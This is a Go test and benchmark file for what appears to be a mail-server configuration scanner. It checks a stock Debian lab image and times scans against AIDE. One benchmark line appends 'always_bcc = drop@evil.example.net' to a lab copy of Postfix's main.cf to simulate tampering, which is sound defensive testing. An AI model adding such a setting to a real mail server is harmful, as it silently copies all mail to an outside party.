@@ -1,0 +1,174 @@
+package cli_test
+
+import (
+	"bytes"
+	"cmp"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+
+	vocabulary "waxseal"
+	"waxseal/internal/agent"
+	"waxseal/internal/cli"
+	"waxseal/internal/lab"
+	"waxseal/internal/mailpath"
+	"waxseal/internal/rootfs"
+)
+
+// stock returns the root of a Debian with Postfix, Dovecot, rspamd, OpenDKIM and
+// SpamAssassin just as their packages set them up.
+func stock(tb testing.TB) string {
+	tb.Helper()
+	lab.Require(tb)
+	l, err := lab.New(tb.Context(), lab.Options{Flavour: lab.Stock})
+	if err != nil {
+		tb.Fatal(err)
+	}
+	tb.Cleanup(func() {
+		if err := l.Close(); err != nil {
+			tb.Error(err)
+		}
+	})
+	return l.Root
+}
+
+// TestStockDebianIsQuiet: what packages set up by themselves is nothing to look
+// at first.
+func TestStockDebianIsQuiet(t *testing.T) {
+	var out, errs bytes.Buffer
+	if code := cli.Run(t.Context(), []string{"scan", "--root", stock(t), "--format", "json", "--fail-on", "medium"}, &out, &errs, "test"); code != 0 {
+		t.Errorf("exit code %d: %s", code, errs.String())
+	}
+	var scan cli.Scan
+	if err := json.Unmarshal(out.Bytes(), &scan); err != nil {
+		t.Fatal(err)
+	}
+	if len(scan.Stacks) == 0 || len(scan.Hooks) == 0 {
+		t.Fatalf("found %d mail systems and %d hooks", len(scan.Stacks), len(scan.Hooks))
+	}
+	for _, f := range scan.Findings {
+		if f.Severity >= vocabulary.Medium {
+			t.Errorf("%s %s: %s", f.Severity, f.Title, strings.Join(f.Reasons, "; "))
+		}
+	}
+	for _, p := range scan.Problems {
+		t.Errorf("%s:%d: %s", p.Path, p.Line, p.Message)
+	}
+}
+
+// BenchmarkStock measures scan and diff of such a server, digests of all
+// closures included, and beside it AIDE, which compares SHA-256 alone of the same
+// files. Each is a whole process; what was read before is in the page cache.
+func BenchmarkStock(b *testing.B) {
+	root := stock(b)
+	bin := filepath.Join(b.TempDir(), "waxseal")
+	if out, err := exec.Command("go", "build", "-trimpath", "-o", bin, "waxseal/cmd/waxseal").CombinedOutput(); err != nil {
+		b.Fatalf("%v: %s", err, out)
+	}
+	files, size := mailSet(b, root)
+	aideInit(b, root, files)
+	b.Logf("%d files, %d MB", len(files), size>>20)
+	b.Run("scan", func(b *testing.B) {
+		process(b, size, bin, "scan", "--root", root, "--format", "json", "--fail-on", "critical")
+	})
+	b.Run("aide", func(b *testing.B) { process(b, size, "chroot", root, "aide", "--check", "--config=/tmp/aide.conf") })
+	b.Run("sha256sum", func(b *testing.B) {
+		process(b, size, "chroot", append([]string{root, "sha256sum"}, files...)...)
+	})
+	after := stock(b)
+	edit(b, after, "etc/postfix/main.cf", "always_bcc = drop@evil.example.net\n")
+	b.Run("diff", func(b *testing.B) {
+		process(b, 2*size, bin, "diff", root, after, "--format", "json", "--fail-on", "critical")
+	})
+}
+
+// process runs a command as often as asked, and once more for its peak memory.
+func process(b *testing.B, size int64, name string, args ...string) {
+	b.SetBytes(size)
+	for b.Loop() {
+		cmd := exec.Command(name, args...)
+		if out, err := cmd.Output(); err != nil && cmd.ProcessState.ExitCode() != 1 {
+			b.Fatalf("%s: %v: %.500s", name, err, out)
+		}
+	}
+	self, err := os.Executable()
+	if err != nil {
+		b.Fatal(err)
+	}
+	measured := exec.Cmd{Path: self, Args: append([]string{"peak", name}, args...)}
+	out, err := measured.Output()
+	if err != nil {
+		b.Fatalf("%s: %v: %.500s", name, err, out)
+	}
+	kilobytes, _ := strconv.Atoi(strings.TrimSpace(string(out)))
+	b.ReportMetric(float64(kilobytes)/1024, "peak-MB")
+}
+
+// runPeak runs a command and prints its peak resident memory in KiB. It is a
+// process of its own, since a child begins with the memory of its parent
+// (getrusage(2)), and a test's is large.
+func runPeak() int {
+	cmd := exec.Command(os.Args[1], os.Args[2:]...)
+	var errs bytes.Buffer
+	cmd.Stderr = &errs
+	if err := cmd.Run(); err != nil && cmd.ProcessState.ExitCode() != 1 {
+		fmt.Printf("%v: %.500s", err, errs.String())
+		return 1
+	}
+	fmt.Println(cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss)
+	return 0
+}
+
+// mailSet lists the regular files that a scan digests.
+func mailSet(b *testing.B, root string) (files []string, size int64) {
+	b.Helper()
+	tree, err := rootfs.Open(root)
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer tree.Close()
+	for _, f := range mailpath.NewReader(agent.ThrowAwayMasker()).Read(tree).Files {
+		if f.Type == vocabulary.Regular && !f.Missing && f.Digest != "" {
+			files = append(files, string(cmp.Or(f.Resolved, f.Path)))
+			size += f.Size
+		}
+	}
+	slices.Sort(files)
+	return slices.Compact(files), size
+}
+
+// aideInit writes AIDE's database of the files.
+func aideInit(b *testing.B, root string, files []string) {
+	b.Helper()
+	var conf strings.Builder
+	conf.WriteString("database_in=file:/tmp/aide.db\ndatabase_out=file:/tmp/aide.db\nreport_url=stdout\n")
+	for _, f := range files {
+		fmt.Fprintf(&conf, "%s$ f sha256\n", strings.ReplaceAll(regexp.QuoteMeta(f), " ", `\x20`))
+	}
+	if err := os.WriteFile(filepath.Join(root, "tmp/aide.conf"), []byte(conf.String()), 0o600); err != nil {
+		b.Fatal(err)
+	}
+	if out, err := exec.Command("chroot", root, "aide", "--init", "--config=/tmp/aide.conf").CombinedOutput(); err != nil {
+		b.Fatalf("aide --init: %v: %s", err, out)
+	}
+}
+
+func edit(b *testing.B, root, name, text string) {
+	b.Helper()
+	f, err := os.OpenFile(filepath.Join(root, name), os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer f.Close()
+	if _, err := f.WriteString(text); err != nil {
+		b.Fatal(err)
+	}
+}
